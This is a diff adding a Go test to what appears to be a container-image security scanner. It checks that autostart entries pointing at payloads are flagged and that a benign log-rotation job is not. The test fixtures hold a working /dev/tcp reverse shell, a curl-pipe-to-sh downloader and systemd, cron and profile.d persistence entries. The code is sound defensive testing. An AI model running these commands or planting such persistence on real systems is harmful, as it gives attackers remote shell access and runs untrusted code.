@@ -566,3 +566,45 @@ func TestKeepFile(t *testing.T) {
 		}
 	}
 }
+
+// An autostart entry whose target sits in an ordinary directory is still reported when the
+// target is itself a payload; one that runs an ordinary script is not.
+func TestAutostartRunsPayload(t *testing.T) {
+	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
+		imagebuild.Reg("/usr/local/bin/netsync", "#!/bin/sh\nH=203.0.113.9\nexec 3<>/dev/tcp/$H/4444\n/bin/sh <&3 >&3 2>&3\n").WithMode(0o755),
+		imagebuild.Reg("/usr/local/bin/rotate", "#!/bin/sh\nfind /var/log/app -name '*.gz' -mtime +7 -delete\n").WithMode(0o755),
+		imagebuild.Reg("/etc/systemd/system/netsync.service", "[Service]\nExecStart=/usr/local/bin/netsync\nRestart=always\n"),
+		imagebuild.Reg("/etc/cron.d/netsync", "*/5 * * * * root /usr/local/bin/netsync >/dev/null 2>&1\n"),
+		imagebuild.Reg("/etc/profile.d/netsync.sh", "(/usr/local/bin/netsync &) 2>/dev/null\n"),
+		imagebuild.Reg("/usr/local/bin/refresh", "#!/bin/sh\ncurl -fsSL http://198.51.100.7/r.sh | sh\n").WithMode(0o755),
+		imagebuild.Reg("/etc/systemd/system/refresh.service", "[Service]\nExecStart=/usr/local/bin/refresh\n"),
+		imagebuild.Reg("/etc/systemd/system/rotate.service", "[Service]\nExecStart=/usr/local/bin/rotate\n"),
+		imagebuild.Reg("/etc/cron.d/rotate", "0 3 * * * root /usr/local/bin/rotate\n"),
+	}}}})
+	for _, p := range []string{"/etc/systemd/system/netsync.service", "/etc/cron.d/netsync", "/etc/profile.d/netsync.sh"} {
+		ok := false
+		for _, f := range res.Findings {
+			if f.Path == p && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && f.Is(audit.CategoryReverseShell) {
+				ok = true
+			}
+		}
+		if !ok {
+			t.Errorf("%s: no persistence finding labelled reverse-shell at high or above:\n%s", p, dumpFindings(res.Findings))
+		}
+	}
+	// a unit that starts a script which runs what it downloads (medium on its own)
+	refresh := false
+	for _, f := range res.Findings {
+		if f.Path == "/etc/systemd/system/refresh.service" && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && f.Is(audit.CategoryMalware) {
+			refresh = true
+		}
+	}
+	if !refresh {
+		t.Errorf("refresh.service: no persistence finding labelled malware at high or above:\n%s", dumpFindings(res.Findings))
+	}
+	for _, f := range res.Findings {
+		if strings.Contains(f.Path, "rotate") && f.Severity >= audit.Medium {
+			t.Errorf("clean autostart reported: %s %s %s", f.Path, f.Rule, f.Title)
+		}
+	}
+}
